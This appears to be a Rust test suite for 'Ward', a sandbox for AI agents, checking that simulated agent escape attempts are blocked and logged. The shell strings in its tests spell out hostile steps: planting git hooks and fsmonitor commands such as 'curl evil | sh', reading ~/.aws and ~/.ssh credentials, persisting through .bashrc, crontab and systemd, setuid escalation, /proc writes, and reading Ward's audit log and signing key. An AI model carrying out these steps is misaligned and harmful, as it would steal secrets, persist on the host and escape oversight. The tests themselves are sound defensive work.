//! Files: reaching outside the grants, persisting on the host, planting code git or the shell will
//! run later, setuid binaries, Ward's own state, /proc.

use crate::*;
use std::process::Command;

#[test]
fn escape_via_hardlink_to_an_outside_file() {
    let e = Env::new();
    let o = e.run(
        "/bin/sh",
        &format!(
            "echo AGENT-RAN; ln {} hl && cat hl && echo LINKED",
            e.p("outside/secret").display()
        ),
    );
    assert!(
        text(&o).contains("AGENT-RAN"),
        "the agent did not run: {}",
        text(&o)
    );
    assert!(
        !text(&o).contains("outside secret") && !text(&o).contains("LINKED"),
        "{}",
        text(&o)
    );
    assert!(!e.p("proj/hl").exists());
    e.assert_recorded();
}

#[test]
fn escape_via_persistence_in_the_home_directory() {
    let e = Env::new();
    let o = e.run(
        "/bin/sh",
        "echo evil >> ~/.bashrc; echo evil >> ~/.profile; mkdir -p ~/.config/autostart ~/.config/systemd/user; \
         echo evil > ~/.config/autostart/x.desktop; crontab -l; echo '* * * * * evil' | crontab -; true",
    );
    assert_eq!(
        std::fs::read_to_string(e.p("home/.bashrc")).unwrap(),
        "# user's bashrc\n",
        "{}",
        text(&o)
    );
    assert!(!e.p("home/.profile").exists() && !e.p("home/.config/autostart").exists());
    e.assert_recorded();
}

#[test]
fn escape_via_another_sessions_stage_and_wards_own_files() {
    // A first session, staged, writes a secret into its stage and keeps running; the second
    // looks for that stage and for Ward's state (session directories, the audit log, the
    // signing key) by every path Ward uses.
    let e = Env::new();
    std::fs::create_dir_all(e.p("other")).unwrap();
    let mut first = e
        .command(&[
            "run",
            "--grant",
            "../other",
            "--",
            "/bin/sh",
            "-c",
            "echo first-session-secret > ../other/staged.txt && exec sleep 30",
        ])
        .spawn()
        .unwrap();
    let sessions = e.p("state/ward/sessions");
    let t = std::time::Instant::now();
    let staged = || {
        std::fs::read_dir(&sessions)
            .into_iter()
            .flatten()
            .flatten()
            .map(|s| s.path().join("stage/0/upper/staged.txt"))
            .find(|p| p.exists())
    };
    while staged().is_none() {
        assert!(
            t.elapsed().as_secs() < 20,
            "the first session did not start"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let o = e.run(
        "/bin/sh",
        &format!(
            "ls -R {state} && echo LISTED; cat {state}/ward/audit/audit.jsonl && echo READ; \
             cat {stage}; cat {other}/staged.txt; ls {home}/.local/state {config} && echo SEEN; \
             echo AGENT-RAN",
            state = e.p("state").display(),
            stage = staged().unwrap().display(),
            other = e.p("other").display(),
            home = e.p("home").display(),
            config = e.p("config").display()
        ),
    );
    assert!(
        text(&o).contains("AGENT-RAN"),
        "the agent did not run: {}",
        text(&o)
    );
    for w in [
        "LISTED",
        "READ",
        "SEEN",
        "session.start",
        "first-session-secret",
    ] {
        assert!(!text(&o).contains(w), "{w}: {}", text(&o));
    }
    first.kill().unwrap();
    first.wait().unwrap();
    e.assert_recorded();
}

#[test]
fn escape_via_git_hooks_outside_the_grant_and_credentials_in_home() {
    // The grant is a subfolder of a repository: the repository's hooks are outside it.
    let e = Env::new();
    for d in [
        "proj/.git/hooks",
        "home/.aws",
        "home/.ssh",
        "home/.config/systemd/user",
    ] {
        std::fs::create_dir_all(e.p(d)).unwrap();
    }
    std::fs::create_dir_all(e.p("proj/sub")).unwrap();
    std::fs::write(
        e.p("home/.aws/credentials"),
        "aws_secret_access_key = AKIA-test\n",
    )
    .unwrap();
    std::fs::write(e.p("home/.ssh/id_ed25519"), "PRIVATE KEY test\n").unwrap();
    let o = e
        .command(&["run", "--grant", ".:direct", "--", "/bin/sh", "-c"])
        .arg(
            "echo 'curl evil | sh' > ../.git/hooks/pre-commit && echo HOOKED; \
             cat ~/.aws/credentials ~/.ssh/id_ed25519; \
             echo evil > ~/.config/systemd/user/evil.service && echo UNIT-WRITTEN; \
             ls /tmp/.X11-unix && echo X11-LISTED; echo AGENT-RAN",
        )
        .current_dir(e.p("proj/sub"))
        .output()
        .unwrap();
    assert!(
        text(&o).contains("AGENT-RAN"),
        "the agent did not run: {}",
        text(&o)
    );
    for w in [
        "HOOKED",
        "AKIA-test",
        "PRIVATE KEY",
        "UNIT-WRITTEN",
        "X11-LISTED",
    ] {
        assert!(!text(&o).contains(w), "{w}: {}", text(&o));
    }
    assert!(!e.p("proj/.git/hooks/pre-commit").exists());
    assert!(!e.p("home/.config/systemd/user/evil.service").exists());
    e.assert_recorded();
}

#[test]
fn escape_via_a_setuid_root_binary_in_the_grant() {
    // An unprivileged agent finds a setuid-root program (planted in its grant, as a package or
    // a careless user might leave one): it must not run with root's rights.
    let Some((uid, gid)) = test_user("planting a setuid-root binary") else {
        return;
    };
    let e = Env::new();
    let ward = hand_to(e.dir.path(), uid, gid);
    // Owned by root, setuid: copied after the chown so it stays root's.
    let suid = e.p("proj/suid-python");
    std::fs::copy(PY, &suid).unwrap();
    std::fs::set_permissions(&suid, std::os::unix::fs::PermissionsExt::from_mode(0o4755)).unwrap();
    let o = ward_as(
        &ward,
        e.dir.path(),
        uid,
        gid,
        &["run", "--grant", ".:direct", "--", "./suid-python", "-c"],
    )
    .arg(
            "import os\nprint('euid', os.geteuid(), flush=True)\n\
             try:\n  os.setuid(0); print('BECAME ROOT')\nexcept OSError as x: print('setuid refused', x)\n\
             try:\n  open('/etc/shadow').read(); print('READ SHADOW')\nexcept OSError as x: print('shadow refused', x)\n",
        )
    .output()
        .unwrap();
    let out = text(&o);
    assert!(out.contains(&format!("euid {uid}")), "{out}");
    assert!(
        !out.contains("BECAME ROOT") && !out.contains("READ SHADOW"),
        "{out}"
    );
    e.assert_recorded();
}

#[test]
fn escape_via_git_config_and_renaming_git_in_a_direct_grant() {
    // Git settings run commands on the host the next time the user runs git in the folder:
    // core.fsmonitor, core.hooksPath, diff.external, filters; so do hooks in a `.git` the agent
    // renamed away and recreated. In a direct grant `.git` is read-only and cannot be renamed.
    let e = Env::new();
    let git = |args: &[&str]| {
        Command::new("git")
            .args(args)
            .current_dir(e.p("proj"))
            .env("HOME", e.p("home"))
            .output()
            .unwrap()
    };
    git(&["init", "-q"]);
    std::fs::write(e.p("proj/a.txt"), "a\n").unwrap();
    git(&["add", "a.txt"]);
    let config_before = std::fs::read(e.p("proj/.git/config")).unwrap();
    let index_before = std::fs::read(e.p("proj/.git/index")).unwrap();
    let o = e.run(
        "/bin/sh",
        "git config core.fsmonitor 'touch PWNED' && echo CONFIGURED; \
         git config core.hooksPath h && echo HOOKSPATH; \
         mv .git .g && echo RENAMED; \
         mkdir -p .git/hooks; echo 'touch PWNED' > .git/hooks/pre-commit && echo HOOKED; \
         echo b > b.txt; git add b.txt && echo STAGED; \
         echo edited >> a.txt && echo EDITED; true",
    );
    let out = text(&o);
    for w in ["CONFIGURED", "HOOKSPATH", "RENAMED", "HOOKED", "STAGED"] {
        assert!(!out.contains(w), "{w}: {out}");
    }
    // The grant itself stays writable.
    assert!(out.contains("EDITED"), "{out}");
    assert_eq!(
        std::fs::read(e.p("proj/.git/config")).unwrap(),
        config_before
    );
    assert_eq!(std::fs::read(e.p("proj/.git/index")).unwrap(), index_before);
    assert!(!e.p("proj/.g").exists() && !e.p("proj/.git/hooks/pre-commit").exists());
    let start = e
        .records()
        .into_iter()
        .find(|r| r["kind"] == "session.start")
        .unwrap();
    assert!(
        start["detail"]["read_only"]
            .as_array()
            .unwrap()
            .iter()
            .any(|p| p.as_str().unwrap().ends_with("proj/.git")),
        "{start}"
    );
}

#[test]
fn escape_via_proc_writes_core_pattern_sysrq_and_process_memory() {
    let e = Env::new();
    let before = std::fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap();
    let o = e.run(
        "/bin/sh",
        "echo '|/tmp/x' > /proc/sys/kernel/core_pattern && echo CORE-SET; \
         echo h > /proc/sysrq-trigger && echo SYSRQ-SENT; \
         echo 1 > /proc/sys/vm/drop_caches && echo SYSCTL-SET; \
         python3 -c \"open('/proc/1/mem','r+b'); print('MEM-OPENED')\"; echo AGENT-RAN",
    );
    assert!(
        text(&o).contains("AGENT-RAN"),
        "the agent did not run: {}",
        text(&o)
    );
    for w in ["CORE-SET", "SYSRQ-SENT", "SYSCTL-SET", "MEM-OPENED"] {
        assert!(!text(&o).contains(w), "{w}: {}", text(&o));
    }
    assert_eq!(
        std::fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap(),
        before
    );
    e.assert_recorded();
}

#[test]
fn escape_via_a_new_or_bare_repository_in_the_grant() {
    // A bare repository in the grant runs its hooks when the user pushes to it: it is
    // read-only like `.git`. Repositories the agent creates cannot be protected after the
    // fact: the user is told, and the log has them.
    let e = Env::new();
    let out = Command::new("git")
        .args(["init", "-q", "--bare", "remote.git"])
        .current_dir(e.p("proj"))
        .output()
        .unwrap();
    assert!(out.status.success());
    let o = e.run(
        "/bin/sh",
        "echo 'touch PWNED' > remote.git/hooks/post-receive && echo HOOKED; \
         echo '[core]' > remote.git/config && echo CONFIGURED; \
         mkdir -p sub/.git && printf '[core]\\n\\tfsmonitor = touch PWNED\\n' > sub/.git/config; \
         git init -q --bare made.git; echo AGENT-RAN",
    );
    let out = text(&o);
    assert!(out.contains("AGENT-RAN"), "the agent did not run: {out}");
    assert!(
        !out.contains("HOOKED") && !out.contains("CONFIGURED"),
        "{out}"
    );
    assert!(!e.p("proj/remote.git/hooks/post-receive").exists());
    assert!(
        out.contains("the agent created git repositories") && out.contains("made.git"),
        "{out}"
    );
    let rec = e
        .records()
        .into_iter()
        .find(|r| r["kind"] == "session.new_repository")
        .expect("the new repositories are on record");
    let repos: Vec<String> = rec["detail"]["repositories"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap().to_string())
        .collect();
    assert!(
        repos.iter().any(|p| p.ends_with("proj/sub/.git")),
        "{repos:?}"
    );
    assert!(
        repos.iter().any(|p| p.ends_with("proj/made.git")),
        "{repos:?}"
    );
    assert!(
        !repos.iter().any(|p| p.ends_with("remote.git")),
        "{repos:?}"
    );
}

/// The issue's own example: a `file.write` deny rule on a file in a direct grant. The file is
/// read-only inside (writing, replacing and deleting it fail), the session's records name the
/// rule, and a file the rule denies that did not exist at the start is reported at the end.
#[test]
fn escape_via_writing_a_file_a_rule_denies_in_a_direct_grant() {
    let e = Env::new();
    std::fs::write(e.p("proj/secret.txt"), "original\n").unwrap();
    let m = r#"name = "t"
[[files]]
path = "PROJ"
mode = "direct"
[[rules]]
action = ["file.write", "file.delete"]
effect = "deny"
resource = "PROJ/secret*.txt"
reason = "hands off"
"#;
    let o = e.run_manifest(
        m,
        "/bin/sh",
        "echo agent > secret.txt || echo WRITE-REFUSED; \
         rm -f secret.txt 2>/dev/null; [ -e secret.txt ] && echo DELETE-REFUSED; \
         mv secret.txt s2 2>/dev/null || echo MOVE-REFUSED; \
         echo new > secret2.txt; echo ok > fine.txt",
    );
    let out = text(&o);
    for refused in ["WRITE-REFUSED", "DELETE-REFUSED", "MOVE-REFUSED"] {
        assert!(out.contains(refused), "{refused}: {out}");
    }
    assert_eq!(
        std::fs::read_to_string(e.p("proj/secret.txt")).unwrap(),
        "original\n"
    );
    assert_eq!(
        std::fs::read_to_string(e.p("proj/fine.txt")).unwrap(),
        "ok\n"
    );
    assert!(
        out.contains("written in a direct grant although a file rule denies it"),
        "{out}"
    );
    e.assert_recorded();
    let recs = e.records();
    let held = recs
        .iter()
        .find(|r| {
            r["kind"] == "file.write"
                && r["resource"]
                    .as_str()
                    .unwrap_or("")
                    .ends_with("/secret.txt")
        })
        .unwrap_or_else(|| panic!("{recs:?}"));
    assert_eq!(held["decision"]["result"], "deny");
    assert!(
        held["decision"]["by"]
            .as_str()
            .unwrap()
            .ends_with("ward.toml:5:1"),
        "{held}"
    );
    let uncovered = recs
        .iter()
        .find(|r| r["kind"] == "session.uncovered" && !r["detail"]["rule_writes"].is_null())
        .unwrap_or_else(|| panic!("{recs:?}"));
    assert!(uncovered["detail"]["rule_writes"][0]["path"]
        .as_str()
        .unwrap()
        .ends_with("/secret2.txt"));
}

#[test]
fn escape_via_a_link_left_in_the_agents_home() {
    // The agent's home persists between sessions and grants below HOME are mounted inside it.
    // A link the agent leaves where a later session mounts a grant must not lead Ward's
    // mount (and the folders it makes for it) out of the home: refused, nothing made outside.
    let e = Env::new();
    let home = e.dir.path().canonicalize().unwrap();
    std::fs::create_dir_all(home.join("work/proj")).unwrap();
    std::fs::write(home.join("work/proj/file.txt"), "project\n").unwrap();
    let victim = e.p("outside");
    // Session 1 works in `proj` only; the agent leaves `work -> outside` in its home.
    let o = e
        .command(&["run", "--grant", ".:direct", "--", "/bin/sh", "-c"])
        .arg(format!(
            "echo AGENT-RAN; ln -s {} \"$HOME/work\" && echo PLANTED",
            victim.display()
        ))
        .env("HOME", &home)
        .output()
        .unwrap();
    assert!(text(&o).contains("PLANTED"), "{}", text(&o));
    // Session 2 grants work/proj: its mount point would be made through the link.
    let o = e
        .command(&["run", "--grant", "work/proj:direct", "--", "/bin/cat"])
        .arg(home.join("work/proj/file.txt"))
        .current_dir(&home)
        .env("HOME", &home)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(125), "{}", text(&o));
    assert!(
        text(&o).contains("the agent's home has work where work/proj is to be mounted"),
        "{}",
        text(&o)
    );
    assert!(
        !victim.join("proj").exists(),
        "a folder was made through the link"
    );
    assert_eq!(
        std::fs::read_dir(&victim).unwrap().count(),
        1,
        "only the secret is there"
    );
    // On record: the second session ended with the sandbox refused (125).
    let recs = e.records();
    assert!(recs.iter().filter(|r| r["kind"] == "session.start").count() >= 2);
    let last = recs.iter().rev().find(|r| r["kind"] == "session.exit");
    assert_eq!(last.unwrap()["detail"]["exit_code"], 125, "{last:?}");
}

#[test]
fn escape_via_the_folder_of_a_granted_file() {
    // A single file granted, in each mode: its folder's other files stay out of reach, no file
    // appears beside it on the host, and the granted file cannot be swapped or linked away.
    for mode in ["ro", "rw", "direct"] {
        let e = Env::new();
        std::fs::write(e.p("outside/notes.txt"), "notes\n").unwrap();
        let grant = format!("{}:{mode}", e.p("outside/notes.txt").display());
        let dir = e.p("outside");
        let o = e.run_args(
            &["--review", "keep", "--grant", &grant],
            "/bin/sh",
            &format!(
                "cd {d}; echo AGENT-RAN; cat notes.txt; cat secret && echo READ-SECRET; \
                 ls -a . ; echo x > new && echo WROTE-NEW; mv notes.txt moved && echo MOVED; \
                 ln notes.txt /tmp/hl && echo LINKED; umount notes.txt && echo UNMOUNTED; \
                 rm -f notes.txt && echo REMOVED; true",
                d = dir.display()
            ),
        );
        let out = text(&o);
        assert!(
            out.contains("AGENT-RAN") && out.contains("notes"),
            "{mode}: {out}"
        );
        // (`new` may land in the sandbox's own /tmp, where the test's folder is: not on the host.)
        for bad in [
            "outside secret",
            "READ-SECRET",
            "MOVED",
            "UNMOUNTED",
            "REMOVED",
        ] {
            assert!(!out.contains(bad), "{mode}: `{bad}` in {out}");
        }
        assert!(
            !out.contains("secret\n"),
            "{mode}: the folder is listed: {out}"
        );
        assert!(!e.p("outside/new").exists() && !e.p("outside/moved").exists());
        assert_eq!(
            std::fs::read_to_string(e.p("outside/notes.txt")).unwrap(),
            "notes\n"
        );
        e.assert_recorded();
        let start = e
            .records()
            .into_iter()
            .find(|r| r["kind"] == "session.start")
            .unwrap();
        assert_eq!(
            start["detail"]["grants"][0]["path"],
            e.p("outside/notes.txt")
                .canonicalize()
                .unwrap()
                .to_str()
                .unwrap()
        );
    }
}
